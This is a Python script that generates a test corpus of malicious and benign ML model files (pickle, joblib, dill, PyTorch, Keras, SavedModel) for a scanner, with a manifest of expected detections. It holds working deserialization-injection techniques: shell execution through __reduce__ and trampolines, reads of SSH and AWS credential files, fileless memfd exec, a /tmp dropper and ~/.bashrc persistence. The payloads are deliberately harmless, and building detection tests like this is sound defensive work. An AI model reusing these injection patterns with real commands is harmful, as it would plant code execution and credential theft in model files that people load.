"""Builds monitor's test corpus with the real frameworks: malicious artifacts of every format
and payload class, and benign ones, plus manifest.json saying what each scan must find.

    <loader-env>/bin/python corpus/make_corpus.py OUT_DIR      (cargo xtask corpus does this)

Payloads are harmless: they run `id` or `true`, read the sandbox's decoy credentials, connect
to a closed loopback port, or write under /tmp and the sandbox's home. Nothing fires while the
corpus is built: pickled payloads are (callable, args) pairs that only run when loaded, and
the few that would run while a model is built check MONITOR_CORPUS_GENERATING first.

manifest.json is a list of {file, kind, format, expect, exercise, description}: `expect`
lists rule classes (the part of a rule id before the dot) of which each must have a finding
of high severity or above; `exercise` says the payload fires only when the model is called.
"""

import json
import marshal
import os
import pickle
import shutil
import sys

os.environ["MONITOR_CORPUS_GENERATING"] = "1"
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
os.environ.setdefault("KERAS_BACKEND", "tensorflow")
os.environ.setdefault("CUDA_VISIBLE_DEVICES", "")

import cloudpickle
import dill
import joblib
import numpy as np

OUT = os.path.abspath(sys.argv[1])
# TensorFlow and PyTorch each bring an LLVM that aborts when the other's is loaded in the same
# process: the Keras and TensorFlow artifacts are made by a second run of this script.
TENSORFLOW_PART = sys.argv[2:] == ["--tensorflow"]
MANIFEST = []


class Call:
    """Pickles as `func(*args)`: the call happens when the pickle is loaded."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):
        # Never called here; pickle only insists that what it will call looks callable.
        raise RuntimeError("a corpus payload is only for pickling")


def attr(obj, name):
    """`getattr(obj, name)` at load time."""
    return Call(getattr, obj, name)


def module(name):
    import importlib

    return Call(importlib.import_module, name)


def run_source(source):
    """Runs Python source at load time, through builtins.exec reached by getattr, in a
    namespace of its own (so functions it defines see its imports)."""
    return Call(attr(module("builtins"), "exec"), source, {})


def add(kind, name, fmt, expect, description, exercise=False):
    MANIFEST.append({
        "file": "%s/%s" % (kind, name),
        "kind": kind,
        "format": fmt,
        "expect": expect,
        "exercise": exercise,
        "description": description,
    })
    return os.path.join(OUT, kind, name)


# --- payloads: (name, rule classes expected, object whose loading acts) ----------------------

FORK_LATER = """
import os, time
if os.fork() == 0:
    time.sleep(1)
    os.system('id')
    os._exit(0)
"""
THREAD_CONNECT = """
import socket, threading, time
def later():
    time.sleep(0.5)
    socket.socket().connect_ex(('127.0.0.1', 9))
threading.Thread(target=later).start()
"""
TIMER_EXEC = """
import os, threading
threading.Timer(0.5, os.system, ['true']).start()
"""
DROPPER = """
import os
path = '/tmp/.update.sh'
with open(path, 'w') as f:
    f.write('#!/bin/sh\\ntrue\\n')
os.chmod(path, 0o755)
"""
FILELESS = """
import os
fd = os.memfd_create('x')
with open('/bin/true', 'rb') as f:
    os.write(fd, f.read())
pid = os.fork()
if pid == 0:
    os.execv('/proc/self/fd/%d' % fd, ['x'])
os.waitpid(pid, 0)
"""
PERSIST = """
import os
with open(os.path.expanduser('~/.bashrc'), 'a') as f:
    f.write('# monitor corpus was here\\n')
"""
MARSHALLED = compile("import os\nos.system('id')\n", "<payload>", "exec")


def payloads():
    import code
    import cProfile
    import ctypes
    import operator
    import runpy
    import socket
    import subprocess
    import timeit

    expand = lambda p: Call(os.path.expanduser, p)  # noqa: E731
    return [
        ("os-system", ["exec"], Call(os.system, "id"), "os.system (pickled as posix.system)"),
        ("subprocess-popen", ["exec"], Call(subprocess.Popen, ["true"]), "subprocess.Popen"),
        ("subprocess-getoutput", ["exec"], Call(subprocess.getoutput, "id"),
         "subprocess.getoutput: a shell through a less watched name"),
        ("posix-spawn", ["exec"], Call(os.posix_spawn, "/bin/true", ["true"], {}),
         "os.posix_spawn"),
        ("spawnv", ["exec"], Call(os.spawnv, os.P_WAIT, "/bin/true", ["true"]), "os.spawnv"),
        ("popen", ["exec"], Call(attr(Call(os.popen, "id"), "read")), "os.popen(...).read()"),
        ("runpy-run-code", ["exec"], Call(runpy._run_code, "import os; os.system('id')", {}),
         "trampoline: runpy._run_code"),
        ("cprofile-run", ["exec"], Call(cProfile.run, "import os; os.system('true')"),
         "trampoline: cProfile.run"),
        ("timeit", ["exec"],
         Call(attr(Call(timeit.Timer, "import os; os.system('true')"), "timeit"), 1),
         "trampoline: timeit.Timer(...).timeit"),
        ("code-runsource", ["exec"],
         Call(attr(Call(code.InteractiveInterpreter), "runsource"), "import os; os.system('id')"),
         "trampoline: code.InteractiveInterpreter().runsource"),
        ("importlib-getattr", ["exec"], Call(attr(module("os"), "system"), "id"),
         "importlib.import_module('os') then getattr(..., 'system')"),
        ("methodcaller", ["exec"],
         Call(Call(operator.methodcaller, "system", "id"), module("os")),
         "operator.methodcaller('system', 'id')(os)"),
        ("builtins-eval", ["exec"], Call(eval, "__import__('os').system('id')"),
         "builtins.eval"),
        ("nested-pickle", ["exec"], Call(pickle.loads, pickle.dumps(Call(os.system, "id"))),
         "a pickle inside a pickle (pickle.loads)"),
        ("marshal-code", ["exec"],
         Call(Call(attr(module("types"), "FunctionType"),
                   Call(marshal.loads, marshal.dumps(MARSHALLED)), {})),
         "marshal'd bytecode made into a function and called"),
        ("ctypes-libc", ["exec"], Call(attr(Call(ctypes.CDLL, None), "system"), b"id"),
         "ctypes into libc's system()"),
        ("connect-loopback", ["net"],
         Call(attr(Call(socket.socket), "connect_ex"), ("127.0.0.1", 9)),
         "a TCP connect to 127.0.0.1:9"),
        ("dns-query", ["net"],
         Call(attr(Call(socket.socket, socket.AF_INET, socket.SOCK_DGRAM), "sendto"),
              b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x07invalid\x00\x00\x01\x00\x01",
              ("127.0.0.53", 53)),
         "a DNS query sent to 127.0.0.53:53"),
        ("ssh-key-read", ["cred"], Call(attr(Call(open, expand("~/.ssh/id_rsa")), "read")),
         "reads ~/.ssh/id_rsa"),
        ("aws-credentials-read", ["cred"],
         Call(attr(Call(open, expand("~/.aws/credentials")), "read")),
         "reads ~/.aws/credentials"),
        ("shadow-read", ["file"], Call(os.open, "/etc/shadow", os.O_RDONLY),
         "opens /etc/shadow (denied to nobody; the attempt counts)"),
        ("dropper", ["file"], run_source(DROPPER), "writes a script to /tmp and makes it executable"),
        ("fileless", ["exec"], run_source(FILELESS), "memfd_create + exec of /proc/self/fd/N"),
        ("bashrc-persistence", ["persist"], run_source(PERSIST), "appends to ~/.bashrc"),
        ("fork-after-load", ["exec"], run_source(FORK_LATER),
         "a forked child that runs id a second after the loader returned"),
        ("thread-connect", ["net"], run_source(THREAD_CONNECT),
         "a thread that connects to loopback after a pause"),
        ("timer-exec", ["exec"], run_source(TIMER_EXEC), "threading.Timer running true later"),
    ]


def model_state():
    import torch

    return {"layer.weight": torch.zeros(2, 2), "layer.bias": torch.zeros(2)}


def write_malicious():
    import torch

    catalog = payloads()
    # Every payload as a plain pickle, protocols 0 to 5 in turn.
    for i, (name, expect, payload, what) in enumerate(catalog):
        protocol = i % 6
        path = add("malicious", "%s.p%d.pkl" % (name, protocol), "pickle", expect,
                   "pickle protocol %d: %s" % (protocol, what))
        with open(path, "wb") as f:
            pickle.dump({"weights": [0.1, 0.2], "config": payload}, f, protocol=protocol)

    by_name = {name: (expect, payload, what) for name, expect, payload, what in catalog}

    def each(names):
        for name in names:
            expect, payload, what = by_name[name]
            yield name, expect, payload, what

    # Two pickles in one file, the payload in the second.
    path = add("malicious", "second-of-two.pkl", "pickle", ["exec"],
               "two pickles in one file, the second runs id")
    with open(path, "wb") as f:
        pickle.dump({"benign": True}, f)
        pickle.dump(Call(os.system, "id"), f)

    # joblib, plain and with every compression it writes.
    for name, compress in [("os-system", None), ("ctypes-libc", "zlib"),
                           ("ssh-key-read", "gzip"), ("connect-loopback", "bz2"),
                           ("dropper", "xz"), ("fork-after-load", "lzma")]:
        expect, payload, what = by_name[name]
        suffix = "" if compress is None else "." + compress
        path = add("malicious", "%s%s.joblib" % (name, suffix), "joblib", expect,
                   "joblib%s: %s" % (" (%s)" % compress if compress else "", what))
        obj = {"coef": np.zeros(3), "payload": payload}
        joblib.dump(obj, path, compress=(compress, 3) if compress else 0)

    # dill and cloudpickle: a function pickled by value makes them need their library.
    for name, expect, payload, what in each(["subprocess-popen", "aws-credentials-read"]):
        path = add("malicious", "%s.dill.pkl" % name, "dill", expect, "dill: " + what)
        with open(path, "wb") as f:
            dill.dump({"scale": lambda x: x * 2, "payload": payload}, f)
    for name, expect, payload, what in each(["builtins-eval", "bashrc-persistence"]):
        path = add("malicious", "%s.cloudpickle.pkl" % name, "cloudpickle", expect,
                   "cloudpickle: " + what)
        with open(path, "wb") as f:
            cloudpickle.dump({"scale": lambda x: x * 2, "payload": payload}, f)

    # NumPy: an object array holding the payload, alone and in an archive.
    for name, expect, payload, what in each(["popen"]):
        path = add("malicious", "%s.npy" % name, "numpy", expect, "numpy object array: " + what)
        np.save(path, np.array([payload, 1], dtype=object), allow_pickle=True)
    for name, expect, payload, what in each(["nested-pickle"]):
        path = add("malicious", "%s.npz" % name, "numpy-archive", expect, "npz member: " + what)
        np.savez(path, weights=np.zeros(3), extra=np.array([payload], dtype=object))

    # PyTorch: zip and legacy checkpoints, and a zip renamed the way hubs name them.
    for name, expect, payload, what in each(["os-system", "marshal-code", "fileless"]):
        path = add("malicious", "%s.pt" % name, "torch-zip", expect, "torch.save: " + what)
        torch.save({"state_dict": model_state(), "meta": payload}, path)
    for name, expect, payload, what in each(["runpy-run-code", "thread-connect"]):
        path = add("malicious", "%s.legacy.pt" % name, "torch-legacy", expect,
                   "torch legacy format: " + what)
        torch.save({"state_dict": model_state(), "meta": payload}, path,
                   _use_new_zipfile_serialization=False)
    for name, ext in [("importlib-getattr", "bin"), ("dns-query", "ckpt")]:
        expect, payload, what = by_name[name]
        path = add("malicious", "pytorch_model-%s.%s" % (name, ext), "torch-zip", expect,
                   "torch.save renamed .%s: %s" % (ext, what))
        torch.save({"state_dict": model_state(), "meta": payload}, path)

    write_dill_inference()


def write_dill_inference():
    """A model class pickled by value (dill does that for __main__) whose predict() acts."""

    class Model:
        def __init__(self):
            self.n_features_in_ = 2

        def predict(self, x):
            import os
            if not os.environ.get("MONITOR_CORPUS_GENERATING"):
                os.system("id")
            return x

    Model.__module__ = "__main__"
    Model.__qualname__ = "Model"
    path = add("malicious", "predict-runs-id.dill.pkl", "dill", ["exec"],
               "dill: a model whose predict() runs id; only inference fires it", exercise=True)
    with open(path, "wb") as f:
        dill.dump(Model(), f, recurse=True)


def write_keras_lambda():
    import keras

    # A lambda expression (a named function would be saved by name): Keras stores its
    # bytecode, and load_model(safe_mode=False) brings it back.
    payload = lambda x: (  # noqa: E731
        x if __import__("os").environ.get("MONITOR_CORPUS_GENERATING")
        else (__import__("os").system("id"), x)[1]
    )
    model = keras.Sequential([
        keras.Input(shape=(2,)),
        keras.layers.Lambda(payload),
        keras.layers.Dense(1),
    ])
    path = add("malicious", "lambda.keras", "keras", ["exec"],
               "Keras v3 model with a Lambda layer that runs id (load_model(safe_mode=False))",
               exercise=True)
    model.save(path)
    try:
        path = os.path.join(OUT, "malicious", "lambda.h5")
        model.save(path)
        add("malicious", "lambda.h5", "hdf5", ["exec"],
            "Keras .h5 with a Lambda layer that runs id", exercise=True)
    except Exception as e:  # some Keras versions cannot write Lambda layers to HDF5
        print("corpus: no lambda.h5: %s" % e, file=sys.stderr)


def write_savedmodel_inference():
    import tensorflow as tf

    class Reader(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def __call__(self, x):
            secret = tf.io.read_file("/home/user/.ssh/id_rsa")
            return x + tf.cast(tf.strings.length(secret), tf.float32)

    class Writer(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def __call__(self, x):
            tf.io.write_file("/home/user/.bashrc", "# monitor corpus was here\n")
            return x

    for name, module_, expect, what in [
        ("savedmodel-reads-ssh-key", Reader(), ["cred"], "reads ~/.ssh/id_rsa with tf.io.read_file"),
        ("savedmodel-writes-bashrc", Writer(), ["persist"], "writes ~/.bashrc with tf.io.write_file"),
    ]:
        path = add("malicious", name, "savedmodel", expect,
                   "SavedModel whose serving signature %s; only inference fires it" % what,
                   exercise=True)
        tf.saved_model.save(module_, path, signatures=module_.__call__.get_concrete_function())


def write_benign():
    import datetime

    import safetensors.numpy
    import safetensors.torch
    import sklearn.linear_model
    import sklearn.pipeline
    import sklearn.preprocessing
    import torch

    containers = {
        "weights": [0.5, 1.5, 2.5],
        "shape": (3,),
        "labels": {"cat", "dog"},
        "blob": b"\x00\x01",
        "created": datetime.datetime(2026, 1, 1),
    }
    for protocol in range(6):
        path = add("benign", "containers.p%d.pkl" % protocol, "pickle", [],
                   "plain containers, pickle protocol %d" % protocol)
        with open(path, "wb") as f:
            pickle.dump(containers, f, protocol=protocol)
    path = add("benign", "dict.dill.pkl", "dill", [], "dill: a dict with a lambda")
    with open(path, "wb") as f:
        dill.dump({"scale": lambda x: x * 2, "bias": 1.0}, f)
    path = add("benign", "list.cloudpickle.pkl", "cloudpickle", [], "cloudpickle: a lambda in a list")
    with open(path, "wb") as f:
        cloudpickle.dump([lambda x: x + 1, 2, 3], f)

    x = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    y = np.array([0, 1, 1, 0])
    pipeline = sklearn.pipeline.make_pipeline(
        sklearn.preprocessing.StandardScaler(), sklearn.linear_model.LogisticRegression()
    ).fit(x, y)
    joblib.dump(pipeline, add("benign", "pipeline.joblib", "joblib", [],
                              "scikit-learn pipeline, joblib"))
    joblib.dump(pipeline, add("benign", "pipeline.zlib.joblib", "joblib", [],
                              "scikit-learn pipeline, joblib zlib-compressed"), compress=3)
    with open(add("benign", "pipeline.pkl", "pickle", [], "scikit-learn pipeline, pickle"), "wb") as f:
        pickle.dump(pipeline, f)

    np.save(add("benign", "array.npy", "numpy", [], "numeric array"), np.arange(12.0).reshape(3, 4))
    np.savez(add("benign", "arrays.npz", "numpy-archive", [], "numeric arrays"),
             a=np.zeros(3), b=np.ones((2, 2)))

    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 1))
    torch.save(net.state_dict(), add("benign", "state_dict.pt", "torch-zip", [], "torch state dict"))
    torch.save(net.state_dict(), add("benign", "state_dict.legacy.pt", "torch-legacy", [],
                                     "torch state dict, legacy format"),
               _use_new_zipfile_serialization=False)
    torch.save(net, add("benign", "sequential.pt", "torch-zip", [], "a whole nn.Sequential"))
    optimizer = torch.optim.SGD(net.parameters(), lr=0.1)
    torch.save({"epoch": 3, "model": net.state_dict(), "optimizer": optimizer.state_dict()},
               add("benign", "checkpoint.ckpt", "torch-zip", [], "training checkpoint with optimizer state"))

    safetensors.torch.save_file(net.state_dict(), add("benign", "model.safetensors", "safetensors", [],
                                                      "safetensors from torch"))
    safetensors.numpy.save_file({"a": np.zeros((2, 2), dtype=np.float32)},
                                add("benign", "arrays.safetensors", "safetensors", [],
                                    "safetensors from numpy"))


def write_benign_tensorflow():
    import keras
    import tensorflow as tf

    model = keras.Sequential([keras.Input(shape=(2,)), keras.layers.Dense(2), keras.layers.Dense(1)])
    model.save(add("benign", "dense.keras", "keras", [], "Keras v3 Dense model"))
    model.save(add("benign", "dense.h5", "hdf5", [], "Keras Dense model, HDF5"))

    class Doubler(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32)])
        def __call__(self, x):
            return x * 2.0

    doubler = Doubler()
    tf.saved_model.save(doubler, add("benign", "savedmodel-doubler", "savedmodel", [],
                                     "SavedModel with one serving signature"),
                        signatures=doubler.__call__.get_concrete_function())


def main():
    part_manifest = os.path.join(OUT, "manifest.tensorflow.json")
    if TENSORFLOW_PART:
        write_keras_lambda()
        write_savedmodel_inference()
        write_benign_tensorflow()
        with open(part_manifest, "w") as f:
            json.dump(MANIFEST, f)
        return
    if os.path.exists(OUT):
        shutil.rmtree(OUT)
    os.makedirs(os.path.join(OUT, "malicious"))
    os.makedirs(os.path.join(OUT, "benign"))
    write_malicious()
    write_benign()
    import subprocess

    subprocess.run([sys.executable, os.path.abspath(__file__), OUT, "--tensorflow"], check=True)
    with open(part_manifest) as f:
        MANIFEST.extend(json.load(f))
    os.remove(part_manifest)
    MANIFEST.sort(key=lambda e: e["file"])
    for entry in MANIFEST:
        assert os.path.exists(os.path.join(OUT, entry["file"])), entry
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1)
    kinds = [e["kind"] for e in MANIFEST]
    print("corpus: %d malicious, %d benign in %s" % (kinds.count("malicious"), kinds.count("benign"), OUT))


if __name__ == "__main__":
    main()
